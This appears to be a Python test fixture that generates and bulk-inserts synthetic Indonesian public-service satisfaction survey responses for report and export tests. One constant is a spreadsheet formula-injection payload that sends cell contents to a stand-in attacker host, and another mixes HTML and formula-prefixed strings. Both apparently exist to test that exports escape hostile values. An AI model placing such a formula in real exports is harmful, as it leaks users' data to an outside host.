"""Synthetic SKM responses for the report, export and indicator tests (bulk insert, known raw rows)."""
from __future__ import annotations

import random
import uuid
from datetime import datetime

from sqlalchemy import insert, select

from app.extensions import db
from app.models import RespondentCategory, SkmResponse
from app.models.skm import PEKERJAAN, PENDIDIKAN

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
NASTY = "<b>tebal</b> & \"kutip\" 😀 ẞ 漢字 \u0007 -1+1 @SUM(A1)"


def make_rows(layanan, period: str, count: int, rng: random.Random, **overrides) -> list[dict]:
    categories = list(db.session.scalars(select(RespondentCategory.id)))
    rows = []
    for i in range(count):
        answers = {f"u{k}": rng.choice([2, 3, 3, 4, 4, None if k == 9 else 4]) for k in range(1, 10)}
        row = {
            "instance_id": uuid.uuid4(), "layanan_id": layanan.id, "period": period,
            "submitted_at": datetime(int(period[:4]), int(period[5:]), 1 + i % 27, 3, i % 60),
            "form_version": "skm-2017-v1", "channel": "web",
            "jenis_kelamin": rng.choice(["L", "P", None]), "usia": rng.choice([17, 25, 33, 47, 58, 70, None]),
            "pendidikan": rng.choice([*PENDIDIKAN, None]), "pekerjaan": rng.choice([*PEKERJAAN, None]),
            "respondent_category_id": rng.choice([*categories, None]),
            "kritik_saran": rng.choice([None, None, "Pelayanan cepat", "Antrian terlalu lama"]),
            "flag_straightline": False, "flag_too_fast": False, "flag_repeat_device": False,
            **answers,
        }
        row.update(overrides)
        rows.append(row)
    return rows


def insert_rows(rows: list[dict]) -> list[dict]:
    if rows:
        db.session.execute(insert(SkmResponse), rows)
        db.session.commit()
    return rows


def as_answers(rows: list[dict]) -> list[dict]:
    return [{f"U{k}": r[f"u{k}"] for k in range(1, 10)} for r in rows]
